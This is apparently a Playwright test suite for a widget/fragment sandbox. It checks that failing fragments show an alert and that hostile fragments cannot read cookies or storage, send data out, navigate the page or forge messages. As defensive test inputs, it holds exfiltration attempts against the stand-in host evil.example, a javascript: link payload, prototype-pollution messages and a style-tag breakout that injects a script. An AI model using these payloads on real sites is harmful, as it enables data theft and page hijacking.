import type { Page } from '@playwright/test';
import { failed, frameOf, place, settled, sibling, withFragments } from '../support/fragments.ts';
import { expect, test } from '../support/journey.ts';
import { holdLimits } from '../support/timeLimits.ts';

withFragments();

test.describe('[CO-WIDGET-034] [F14] a part that does not load says so, and its siblings are shown', () => {
  const works = 'export default ({ root }) => { root.textContent = "drawn"; }';
  const cases: readonly (readonly [what: string, js: string, answer?: Parameters<Page['route']>[1]])[] = [
    ['a syntax error', 'export default ({ root } => {'],
    ['an error while it runs', 'throw new Error("no")'],
    ['an error while it draws', 'export default () => { throw new Error("no") }'],
    ['a script that exports nothing', 'window.loaded = true'],
    ['404', works, (route) => route.fulfill({ status: 404, body: 'gone' })],
    ['500', works, (route) => route.fulfill({ status: 500, body: '' })],
    [
      'HTML in place of the script',
      works,
      (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<h1>Sign in</h1>' }),
    ],
    ['a cut connection', works, (route) => route.abort('connectionreset')],
  ];
  for (const [what, js, answer] of cases) {
    test(what, async ({ page }) => {
      const fragment = await place(page, { js });
      if (answer) await page.route(`**/fragments/${fragment.fragmentUUID}/js*`, answer);
      await page.goto('/');
      await expect(page.getByRole('alert').filter({ hasText: failed })).toBeVisible();
      await expect(page.getByText(sibling)).toBeVisible();
      await expect(page.locator('iframe')).toHaveCount(0);
      await page.unroute(`**/fragments/${fragment.fragmentUUID}/js*`);
      await fragment.undo();
    });
  }

  test('a frame whose document is refused', async ({ page }) => {
    const fragment = await place(page, { js: works });
    await page.route('**/fragments/*/frame*', (route) => route.fulfill({ status: 404, body: 'Fragment not found.' }));
    await page.goto('/');
    await expect(page.getByRole('alert').filter({ hasText: failed })).toBeVisible();
    await page.unroute('**/fragments/*/frame*');
    await fragment.undo();
  });

  /** Nothing more is heard of these once they have begun. */
  const begun = (page: Page) => page.waitForEvent('console', (message) => message.text() === 'begun');
  for (const [what, js] of [
    ['a script that never comes, after 10 s', works],
    ['an endless loop, and the page goes on meanwhile', 'console.info("begun"); for (;;) {}'],
    ['a draw that never ends', 'export default () => { console.info("begun"); return new Promise(() => {}); }'],
  ] as const) {
    test(what, { tag: '@window' }, async ({ page }) => {
      const endLimits = await holdLimits(page);
      const fragment = await place(page, { js });
      const script = `**/fragments/${fragment.fragmentUUID}/js*`;
      if (js === works) await page.route(script, () => undefined);
      const busy = js === works ? page.waitForRequest(script) : begun(page);
      await page.goto('/');
      await busy;
      await expect(page.locator('iframe')).toBeAttached();
      // The page responds while the fragment blocks its own thread.
      await expect(page.getByText(sibling)).toBeVisible();
      expect(await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => resolve('drawn'))))).toBe(
        'drawn',
      );
      expect(await endLimits()).toBeGreaterThan(0);
      await expect(page.getByRole('alert').filter({ hasText: failed })).toBeVisible();
      await expect(page.locator('iframe')).toHaveCount(0);
      await page.unrouteAll({ behavior: 'ignoreErrors' });
      await fragment.undo();
    });
  }
});

test.describe('[F15] [F37] what a hostile fragment tries', () => {
  /** Tries each action and records the result. */
  const tries = (code: string) =>
    `export default async ({ root, navigate }) => {
      const results = [];
      const attempt = async (name, act) => {
        try { results.push(name + ': ' + await act()); } catch (error) { results.push(name + ': refused'); }
      };
      ${code}
      root.innerHTML = '<pre id="results"></pre><button id="press">Press</button>' +
        '<a id="link" href="/discussions">In</a><a id="bad" href="javascript:top.hacked=1">Bad</a>';
      root.querySelector('pre').textContent = results.join('\\n');
    }`;

  test('a fragment cannot access the page: no document, cookies, storage or API calls', async ({ page }) => {
    const fragment = await place(page, {
      js: tries(`
        await attempt('parent document', () => parent.document.title);
        await attempt('top location', () => top.location.href);
        await attempt('cookies', () => document.cookie);
        await attempt('localStorage', () => localStorage.length);
        await attempt('sessionStorage', () => sessionStorage.length);
        await attempt('indexedDB', () => new Promise((done, fail) => {
          const open = indexedDB.open('x');
          open.onsuccess = done;
          open.onerror = () => fail(1);
        }));
        await attempt('own API', async () => (await fetch('/api/v2/users/me')).status);
        await attempt('eval', () => eval('1 + 1'));
        await attempt('inline script', () => new Promise((done, fail) => {
          const script = document.createElement('script');
          script.textContent = 'window.inline = 1';
          document.body.append(script);
          window.inline ? done('ran') : fail(1);
        }));
        await attempt('popup', () => { const opened = open('/'); if (!opened) throw 1; return 'opened'; });
        await attempt('peer connection', () => { new RTCPeerConnection(); return 'made'; });
        await attempt('peer connection of an inner frame', async () => {
          const inner = document.createElement('iframe');
          document.body.append(inner);
          new inner.contentWindow.RTCPeerConnection();
          return 'made';
        });
        const hear = (html) => new Promise((done, fail) => {
          addEventListener('message', ({ data }) => data.inner && done(data.inner));
          setTimeout(fail, 600);
          const inner = document.createElement('iframe');
          inner.srcdoc = html;
          document.body.append(inner);
        });
        const script = "parent.postMessage({ inner: 'ran' }, '*')";
        const url = URL.createObjectURL(new Blob([script], { type: 'text/javascript' }));
        await attempt('script in an inner frame', () => hear('<script src="' + url + '"></scr' + 'ipt>'));
        await attempt('module in an inner frame', () => hear('<script type=module src="' + url + '"></scr' + 'ipt>'));
        await attempt('inline script in an inner frame', () => hear('<script>' + script + '</scr' + 'ipt>'));
        await attempt('import of its own in an inner frame', () =>
          hear('<script type=module src="' + import.meta.url + '"></scr' + 'ipt>'));
        await attempt('document of its own address', () => new Promise((done, fail) => {
          addEventListener('message', ({ data }) => data.inner && done(data.inner));
          setTimeout(fail, 600);
          const inner = document.createElement('iframe');
          inner.src = URL.createObjectURL(new Blob(['<script>' + script + '</scr' + 'ipt>'], { type: 'text/html' }));
          document.body.append(inner);
        }));
        await attempt('worker', () => new Promise((done, fail) => {
          const worker = new Worker(url);
          worker.onerror = fail;
          worker.onmessage = done;
          setTimeout(fail, 500);
        }));
      `),
    });
    await page.goto('/');
    const results = frameOf(page).locator('#results');
    await expect(results).toBeVisible();
    expect((await results.textContent())?.split('\n').filter((line) => !line.endsWith(': refused'))).toEqual([]);
    await fragment.undo();
  });

  test('it sends nothing anywhere, by any way', async ({ page }) => {
    const outside: string[] = [];
    await page.route(/evil\.example/, (route) => {
      outside.push(route.request().url());
      return route.fulfill({ status: 200, body: '' });
    });
    const fragment = await place(page, {
      js: tries(`
        const url = 'https://evil.example/?';
        await attempt('fetch', async () => (await fetch(url + 'fetch', { mode: 'no-cors' })).type);
        await attempt('beacon', () => { if (!navigator.sendBeacon(url + 'beacon', 'x')) throw 1; return 'queued'; });
        await attempt('socket', () => new Promise((done, fail) => {
          const socket = new WebSocket('wss://evil.example/');
          socket.onopen = done;
          socket.onerror = () => fail(1);
        }));
        await attempt('events', () => new Promise((done, fail) => {
          const source = new EventSource(url + 'events');
          source.onopen = done;
          source.onerror = () => fail(1);
        }));
        await attempt('import', () => import(url + 'import'));
        for (const html of [
          '<img src="https://evil.example/?img">',
          '<link rel="stylesheet" href="https://evil.example/?css">',
          '<iframe src="https://evil.example/?frame"></iframe>',
          '<form action="https://evil.example/?form"><button></button></form>',
          '<style>body{background:url(https://evil.example/?background)} @import "https://evil.example/?import-css"; ' +
            '@font-face{font-family:x;src:url(https://evil.example/?font)} body{font-family:x}</style>',
          '<video src="https://evil.example/?video" poster="https://evil.example/?poster"></video>',
          '<object data="https://evil.example/?object"></object>',
          '<link rel="prefetch" href="https://evil.example/?prefetch">',
          '<link rel="preconnect" href="https://evil.example">',
          '<meta http-equiv="refresh" content="0;url=https://evil.example/?refresh">',
          '<base href="https://evil.example/"><script src="x"></script>',
        ]) document.body.insertAdjacentHTML('beforeend', html);
        document.querySelector('form')?.requestSubmit();
      `),
      css: '@import "https://evil.example/?own-css"; p { background: url(https://evil.example/?own-background) }',
    });
    await page.goto('/');
    await settled(page);
    // All requests were sent by then. The live connection keeps the network busy, so idle cannot be awaited.
    await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
    expect(outside).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/');
    await fragment.undo();
  });

  for (const [what, code] of [
    ['the top window', 'top.location = "https://evil.example/";'],
    [
      'the parent by a link',
      'const link = document.createElement("a"); link.href = "https://evil.example/"; ' +
        'link.target = "_top"; document.body.append(link); link.click();',
    ],
    ['its own frame', 'location.href = "https://evil.example/?" + encodeURIComponent("what it knows");'],
    ['its own frame, to this site', 'location.href = new URL("/entry/signout", location.href);'],
    ['the page, without a press', 'navigate("/discussions");'],
  ] as const) {
    test(`it navigates nothing: ${what}`, async ({ page }) => {
      const outside: string[] = [];
      await page.route(/evil\.example/, (route) => {
        outside.push(route.request().url());
        return route.fulfill({ status: 200, body: 'hello' });
      });
      const fragment = await place(page, { js: tries(`await attempt('go', () => { ${code} return 1; });`) });
      await page.goto('/');
      await expect(page.getByText(sibling)).toBeVisible();
      await settled(page);
      expect(outside).toEqual([]);
      expect(new URL(page.url()).pathname).toBe('/');
      expect(
        page
          .frames()
          .map((frame) => new URL(frame.url()).pathname)
          .filter((path) => path === '/entry/signout'),
      ).toEqual([]);
      await fragment.undo();
    });
  }

  test('after a press it may lead the page on, by addresses that links may have', async ({ page }) => {
    const fragment = await place(page, { js: tries('') });
    await page.goto('/');
    await frameOf(page).locator('#bad').click();
    await expect(page.getByText(sibling)).toBeVisible();
    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    await frameOf(page).locator('#link').click();
    await page.waitForURL('**/discussions');
    await page.goto('/');
    await fragment.undo();
  });

  test('forged messages change nothing: of others, without the token, of no known shape', async ({ page }) => {
    const forged = [
      'null',
      '"ready"',
      '42',
      '[]',
      '{}',
      '{ token: "guessed", kind: "resize", height: 4000 }',
      '{ kind: "resize", height: 4000 }',
      '{ token, kind: "resize", height: "4000" }',
      '{ token, kind: "resize", height: Infinity }',
      '{ token, kind: "resize", height: -5 }',
      '{ token, kind: "resize", height: NaN }',
      '{ token, kind: "navigate", address: {} }',
      '{ token, kind: "navigate", address: "x".repeat(5000) }',
      '{ token, kind: "eval", code: "top.hacked = 1" }',
      '{ token, kind: "__proto__" }',
      'JSON.parse(\'{"__proto__":{"polluted":1}}\')',
    ];
    const fragment = await place(page, {
      js: tries(
        'const token = location.hash.slice(1); for (const message of ' +
          `[${forged.join(', ')}]) parent.postMessage(message, '*');`,
      ),
      css: '#results { block-size: 60px; overflow: auto }',
    });
    await page.goto('/');
    await expect(frameOf(page).locator('#results')).toBeVisible();
    const frame = page.locator('iframe[title="Tried fragment"]');
    const before = await frame.boundingBox();
    // Another window, and the page itself, that knows the token.
    await page.evaluate(() => {
      const token = document.querySelector<HTMLIFrameElement>('iframe')?.src.split('#')[1];
      postMessage({ token, kind: 'resize', height: 3000 }, '*');
      const other = document.createElement('iframe');
      other.setAttribute('sandbox', 'allow-scripts');
      document.body.append(other);
      dispatchEvent(
        new MessageEvent('message', {
          data: { token, kind: 'resize', height: 3000 },
          origin: 'null',
          source: other.contentWindow,
        }),
      );
      dispatchEvent(
        new MessageEvent('message', { data: { token, kind: 'failed', reason: 'x' }, origin: 'https://evil.example' }),
      );
    });
    expect((await frame.boundingBox())?.height).toBe(before?.height);
    await expect(page.getByText(failed)).toHaveCount(0);
    expect(await page.evaluate(() => ['hacked' in window, 'polluted' in {}])).toEqual([false, false]);
    await fragment.undo();
  });

  test('its styles stay in its frame: the title bar is seen, and nothing covers the page', async ({ page }) => {
    const css = [
      'header, nav, main { display: none !important }',
      '* { position: fixed !important; inset: 0; z-index: 2147483647; background: red }',
      '}</style><script>parent.hacked=1</script><style>',
      'html { block-size: 100vh } #root { block-size: 100000px }',
    ].join('\n');
    const fragment = await place(page, { js: tries(''), css });
    await page.goto('/');
    await expect(page.locator('iframe[title="Tried fragment"]')).toBeVisible();
    await expect(page.getByRole('banner')).toBeVisible();
    await expect(page.getByText(sibling)).toBeVisible();
    const home = page.getByRole('banner').getByRole('link').first();
    await home.hover();
    expect((await page.locator('iframe[title="Tried fragment"]').boundingBox())?.height).toBeLessThanOrEqual(4000);
    await fragment.undo();
  });
});
